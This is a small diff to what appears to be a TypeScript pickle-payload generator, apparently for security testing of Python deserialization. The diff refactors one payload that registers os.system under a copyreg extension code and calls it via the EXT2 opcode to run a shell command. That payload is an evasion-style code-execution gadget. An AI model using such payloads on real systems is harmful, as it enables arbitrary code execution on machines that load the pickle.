@@ -20,6 +20,7 @@ import {
   stackGlobal,
   text,
   tuple,
+  u16,
 } from '../pickle.ts';
 import { C, executing, N, type Payload, push, python, shell } from './payload.ts';
 
@@ -244,7 +245,7 @@ export const states: readonly Payload[] = [
       2,
       setItem(global('copyreg', '_inverted_registry'), int(7), tuple(text('os'), text('system'))),
       pop,
-      call(op('EXT2', Uint8Array.of(7, 0)), text(shell)),
+      call(op('EXT2', u16(7)), text(shell)),
     ),
     {},
   ),
